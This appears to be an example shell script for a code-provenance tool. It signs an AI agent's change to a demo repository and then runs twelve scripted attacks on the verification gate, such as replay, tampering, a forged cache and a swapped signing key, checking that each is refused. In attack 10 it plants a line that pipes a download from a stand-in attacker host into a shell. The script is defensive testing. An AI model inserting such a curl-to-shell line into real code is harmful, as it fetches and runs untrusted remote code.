#!/usr/bin/env bash
# An agent's change, its signed statement, a gate; then twelve attacks on the gate. README.md tells the story.
#
#   ATTEST=target/debug/attest examples/06-agent-change/story.sh
#
# All of it happens in a directory that is removed at the end. Dates, keys and run ids are fixed, and signatures by a key are
# deterministic, so the output is the same each time: expected.txt. It ends with 1 where an attack is not refused, or is
# refused for another reason than the one that it is about.
set -euo pipefail

here=$(cd -- "$(dirname -- "${BASH_SOURCE[0]}")" && pwd -P)
attest=${ATTEST:-attest}
case $attest in
  /*) ;;
  */*) attest=$PWD/$attest ;;
esac
room=$(mktemp -d)
trap 'rm -rf -- "$room"' EXIT
umask 077
cp "$here"/keys/*.pem "$room"

# Nothing of the reader's machine is in the story.
export LC_ALL=C TZ=UTC NO_COLOR=1 HOME=$room GIT_CONFIG_GLOBAL=/dev/null GIT_CONFIG_NOSYSTEM=1
unset GIT_DIR GIT_WORK_TREE GIT_INDEX_FILE ATTEST_SIGN_PASSPHRASE ATTEST_NO_CACHE
unset GITHUB_ACTIONS GITLAB_CI BUILDKITE CIRCLECI

# The day after the run, at noon.
now=2026-11-21T12:00:00Z

########################################################################################################################
# Tools of the story.

title() {
  printf '\n%s\n' "$1"
}

sha256() {
  if command -v sha256sum >/dev/null; then sha256sum; else shasum -a 256; fi | cut -d ' ' -f 1
}

# commit WHEN MESSAGE: all of the work tree, by a person whose clock stands.
commit() {
  git add -A
  GIT_AUTHOR_NAME=mason GIT_AUTHOR_EMAIL=mason@acme.example GIT_AUTHOR_DATE=$1 \
    GIT_COMMITTER_NAME=mason GIT_COMMITTER_EMAIL=mason@acme.example GIT_COMMITTER_DATE=$1 git commit -q -m "$2"
}

# fields LEVEL STORAGE: what the agent's harness knows of its run.
fields() {
  cat <<JSON
{
  "runId": "run-2026-11-20-0001",
  "verificationLevel": "$1",
  "repo": { "pullRequest": { "number": 7 } },
  "agent": { "name": "mason", "version": "1.4", "invocationKind": "ci-step", "declaredIdentity": "agent:mason" },
  "model": { "provider": "acme", "modelId": "acme-large-3" },
  "environment": {
    "executionType": "other-ci",
    "builder": {
      "id": "https://ci.acme.example/builders/agents",
      "type": "generic-ci-workflow",
      "workflowRef": "https://ci.acme.example/workflows/agent@v3"
    }
  },
  "capture": { "method": "wrapper", "harness": "mason-ci" },
  "agentConfig": { "primaryFile": "AGENTS.md", "primaryDigest": { "sha256": "$(git show main:AGENTS.md | sha256)" } },
  "humanApproval": { "state": "requested" },
  "privacy": {
    "redactionPolicy": "digests-only",
    "rawPrompt": { "stored": true, "visibility": "team", "retention": "30d" },
    "rawToolOutputs": { "stored": false, "visibility": "none" },
    "publicTransparencyLog": { "allowed": true, "includesRawContent": false }
  },
  "timestamps": { "startedAt": "2026-11-20T15:00:00Z", "finishedAt": "2026-11-20T15:04:05Z" },
  "evidence": [
    {
      "type": "raw-prompt-ref",
      "uri": "artifact://acme/runs/0001/prompt.txt",
      "digest": { "sha256": "$(printf 'make the total right' | sha256)" },
      "storage": "$2",
      "visibility": "team",
      "mediaType": "text/plain"
    }
  ]
}
JSON
}

# state BRANCH TO [LEVEL STORAGE]: a statement of the change that ends at BRANCH.
state() {
  fields "${3:-policy-grade}" "${4:-artifact-store}" >"$room/run.json"
  "$attest" provenance create --quiet --ci none --base main --head "$1" --input "$room/run.json" \
    --level "${3:-policy-grade}" --output "$2" --force
}

# sign WHO STATEMENT TO
sign() {
  "$attest" sign "$2" --key "$room/$1.pem" --output "$3" --force
}

# edit FROM TO SCRIPT: a statement with something else in it.
edit() {
  sed "$3" "$1" >"$2"
  if cmp -s "$1" "$2"; then
    echo 'the edit changed nothing' >&2
    exit 1
  fi
}

# gate BUNDLE [FLAGS]: the gate of the pull request, as the base branch wants it. Later flags win over earlier ones nowhere,
# so what may differ is a default here.
gate() {
  local bundle=$1 base=${base:-main} head=${head:-agent/total} number=${number:-7} at=${at:-$now}
  "$attest" provenance verify --bundle "$bundle" --base "$base" --head "$head" --pull-request "$number" --at "$at" \
    --outputs "$room/outputs"
}

# refused CODE BUNDLE: the gate is not met, for this reason and no other.
refused() {
  local status=0 codes
  gate "$2" >"$room/said" || status=$?
  # What was checked besides is the same each time.
  sed '/^signed by /,$d; /^checked$/,$d; /^not checked$/,$d' "$room/said"
  codes=$(sed -n 's/^failure-codes=//p' "$room/outputs")
  if [[ $status != 1 || $codes != "$1" ]]; then
    printf 'the attack should be refused with %s; attest ended with %s and %s\n' "$1" "$status" "$codes" >&2
    exit 1
  fi
}

########################################################################################################################
# The repository. What the gate expects is on its main branch.

git init -q -b main "$room/shop"
cd "$room/shop"
git remote add origin https://github.com/acme/shop.git
mkdir src .attest
cat >src/cart.py <<'PY'
def total(items):
    return sum(items)
PY
cat >AGENTS.md <<'MD'
Keep functions small. Never touch `.attest/`.
MD
cat >.attest/provenance.toml <<TOML
schema = 1
repository = "https://github.com/acme/shop"
required-level = "policy-grade"
max-age = "24h"
subjects = ["patch.diff"]
agent-config = "AGENTS.md"

[[signer]]
name = "agent:mason"
key = """
$(cat "$here/keys/mason.pub")
"""
builder = "https://ci.acme.example/builders/agents"
workflow = "https://ci.acme.example/workflows/agent@v3"
issuer = "https://ci.acme.example"

[[signer]]
name = "agent:tailor"
key = """
$(cat "$here/keys/tailor.pub")
"""
builder = "https://ci.acme.example/builders/agents"
workflow = "https://ci.acme.example/workflows/agent@v3"
issuer = "https://ci.acme.example"
TOML
commit 2026-11-19T09:00:00Z 'The shop, and who may sign for its agents'

title 'The agent changes a file, and its run is stated and signed.'
git checkout -q -b agent/total
cat >src/cart.py <<'PY'
def total(items):
    return sum(item.price * item.count for item in items)
PY
commit 2026-11-20T15:04:00Z 'Totals are of prices'
state agent/total "$room/statement.json"
sign mason "$room/statement.json" "$room/bundle.json"
git diff --stat main agent/total

title 'The gate is met.'
gate "$room/bundle.json"

########################################################################################################################
# The attacks.

title '1. Other repository: the agent did the same in its sandbox, where it may do anything.'
git clone -q "$room/shop" "$room/sandbox"
(
  cd "$room/sandbox"
  git remote set-url origin https://github.com/acme/sandbox.git
  git branch -q main origin/main
  state agent/total "$room/attack.json"
)
sign mason "$room/attack.json" "$room/attack-bundle.json"
refused repo_url_mismatch "$room/attack-bundle.json"

title '2. Other base: main has moved on, and the same patch is put on top of it.'
git checkout -q -b main-later main
cat >CHANGES.md <<'MD'
Items are never free.
MD
commit 2026-11-20T16:00:00Z 'A rule that the agent never saw'
git checkout -q -b agent/later
git checkout -q agent/total -- src/cart.py
commit 2026-11-20T16:30:00Z 'Totals are of prices'
base=main-later head=agent/later refused base_commit_mismatch "$room/bundle.json"

title '3. Replayed run: pull request 7 was closed; its statement comes back with number 8.'
number=8 refused replay_detected "$room/bundle.json"

title '4. Extra subject: a release is named beside the change, and an insider signs that.'
edit "$room/statement.json" "$room/attack.json" \
  's/^  "subject": \[/&{"name": "shop-2.0.tar.gz", "digest": {"sha256": "'"$(printf release | sha256)"'"}},/'
sign mason "$room/attack.json" "$room/attack-bundle.json"
refused subject_digest_mismatch "$room/attack-bundle.json"

title '5. Tampered predicate: the model is renamed inside of the signed bundle.'
payload=$(sed -n 's/.*"payload": *"\([^"]*\)".*/\1/p' "$room/bundle.json")
forged=$(printf '%s' "$payload" | base64 -d | sed 's/acme-large-3/acme-large-4/' | base64 | tr -d '\n')
edit "$room/bundle.json" "$room/attack-bundle.json" "s|$payload|$forged|"
refused signature_invalid "$room/attack-bundle.json"

title '6. Swapped bundle: the honest bundle of an earlier push stands in for this one.'
git checkout -q -b agent/earlier main
cat >src/cart.py <<'PY'
def total(items):
    return sum(item.price for item in items)
PY
commit 2026-11-20T14:00:00Z 'A first try'
state agent/earlier "$room/attack.json"
sign mason "$room/attack.json" "$room/attack-bundle.json"
refused subject_digest_mismatch "$room/attack-bundle.json"

title '7. Wrong identity: an agent that may sign for its own runs signs for another one.'
sign tailor "$room/statement.json" "$room/attack-bundle.json"
refused signer_identity_mismatch "$room/attack-bundle.json"

title '8. Expired window: the statement waits two days for a reviewer who is tired.'
at=2026-11-22T15:04:06Z refused stale_attestation "$room/bundle.json"

title '9. Level lifted by hand: evidence that only the author has, and a level that needs more.'
state agent/total "$room/modest.json" evidence-grade local-only
edit "$room/modest.json" "$room/attack.json" 's/"evidence-grade"/"policy-grade"/'
sign mason "$room/attack.json" "$room/attack-bundle.json"
refused level_escalation "$room/attack-bundle.json"

title '10. Forged cache: the change grows after it was signed, and a cache says that it did not.'
git checkout -q -b agent/grown agent/total
printf 'import os; os.system("curl evil.example | sh")\n' >>src/cart.py
commit 2026-11-20T17:00:00Z 'Nothing to see'
"$attest" provenance digest --no-cache --base main --head agent/total --patch "$room/signed.diff" >/dev/null
"$attest" provenance digest --base main --head agent/grown --patch "$room/grown.diff" >/dev/null
signed=$(sha256 <"$room/signed.diff")
edit .attest/cache.db "$room/cache.db" "s/$(sha256 <"$room/grown.diff")/$signed/g"
cp "$room/cache.db" .attest/cache.db
"$attest" cache show --format json >"$room/cache.json"
grep -q "$signed" "$room/cache.json"
head=agent/grown refused subject_digest_mismatch "$room/bundle.json"
rm -f .attest/cache.db

title '11. Policy changed by the pull request: the change brings its own signer, and is signed by them.'
git checkout -q -b agent/policy agent/total
awk -v key="$here/keys/attacker.pub" '
  /^-----BEGIN/ && !done { while ((getline line < key) > 0) print line; skip = done = 1 }
  !skip { print }
  /^-----END/ { skip = 0 }
' .attest/provenance.toml >"$room/provenance.toml"
cp "$room/provenance.toml" .attest/provenance.toml
commit 2026-11-20T18:00:00Z 'Tidy up'
state agent/policy "$room/attack.json"
sign attacker "$room/attack.json" "$room/attack-bundle.json"
head=agent/policy refused signature_invalid "$room/attack-bundle.json"

title '12. Raw prompt made public: the reference to the prompt goes into a public log.'
edit "$room/statement.json" "$room/attack.json" 's/"storage": "artifact-store"/"storage": "transparency-log"/'
sign mason "$room/attack.json" "$room/attack-bundle.json"
refused privacy_violation "$room/attack-bundle.json"

title 'Twelve attacks, twelve refusals.'
